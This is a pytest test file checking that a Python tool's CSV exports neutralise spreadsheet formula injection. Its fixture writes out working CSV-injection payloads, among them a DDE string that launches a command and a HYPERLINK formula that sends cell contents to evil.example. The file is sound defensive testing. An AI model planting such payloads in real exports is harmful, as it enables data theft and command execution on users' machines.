"""CSV output is safe to open in a spreadsheet (OWASP's rule for CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tradedemands.formats import neutralise_formula, restore_formula

HOSTILE = """\
version: 1
parties:
  us: {name: "=HYPERLINK(\\"http://x\\",\\"us\\")"}
  cn: {name: China}
statuses:
  - {name: open}
  - {name: "@SUM(A1)", closed: true}
demands:
  - id: US-1
    party: us
    title: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")"
    text: "+cmd|' /C calc'!A0"
    topic: "-2+3"
    tags: ["@SUM(1+1)*cmd|' /C calc'!A0", "\\tTAB", "-12.5"]
    status: "@SUM(A1)"
    history:
      - {date: 2018-05-03, status: open, note: "=1+1"}
      - {date: 2018-05-04, status: "@SUM(A1)", note: "\\r=2+2"}
  - id: US-2
    party: us
    title: "-12.5"
    text: "+3"
    status: open
    history:
      - {date: 2018-05-03, status: open}
"""

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def hostile(workspace: Path) -> Path:
    path = workspace / "hostile.yaml"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "command",
    [["list", "-o", "csv"], ["export", "-o", "csv"], ["summary", "-o", "csv"], ["show", "US-1", "US-2", "-o", "csv"]],
)
def test_no_cell_starts_a_formula(run, hostile: Path, command: list[str]) -> None:
    r = run(*command, "-f", str(hostile))
    assert r.exit_code == 0, r.output
    found = cells(r.stdout)
    assert found
    for cell in found:
        assert not cell.startswith(TRIGGERS) or cell in ("-12.5", "+3"), cell


def test_list_csv_cells_exactly(run, hostile: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(run("list", "-o", "csv", "-f", str(hostile)).stdout)))
    one, two = rows
    assert one["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert one["text"] == "'+cmd|' /C calc'!A0"
    assert one["topic"] == "'-2+3"
    assert one["status"] == "'@SUM(A1)"
    # A tag with a tab in it: the list is a JSON array, which no spreadsheet reads as a formula.
    assert one["tags"] == '["@SUM(1+1)*cmd|\' /C calc\'!A0", "\\tTAB", "-12.5"]'
    assert (two["title"], two["text"]) == ("-12.5", "+3")  # plain numbers stay numbers


def test_summary_headers_from_the_file_are_neutralised(run, hostile: Path) -> None:
    header = next(csv.reader(io.StringIO(run("summary", "-o", "csv", "-f", str(hostile)).stdout)))
    assert "'@SUM(A1)" in header


def test_other_formats_are_untouched(run, hostile: Path) -> None:
    r = run("list", "-o", "json", "-f", str(hostile))
    assert '"title": "=HYPERLINK(' in r.stdout


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e6", "-1e6"),
        ("-.5", "-.5"),
        ("-", "'-"),
        ("-1+2", "'-1+2"),
        ("-inf", "'-inf"),
        ("'=x", "''=x"),  # already quoted once: one more, so that import can undo exactly one
        ("'plain", "'plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_the_rule(cell: str, safe: str) -> None:
    assert neutralise_formula(cell) == safe
    assert restore_formula(safe) == cell


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r0123456789.eE aZ")), max_size=12))
def test_restore_undoes_neutralise(cell: str) -> None:
    assert restore_formula(neutralise_formula(cell)) == cell
    assert not neutralise_formula(cell).startswith(TRIGGERS) or neutralise_formula(cell) == cell
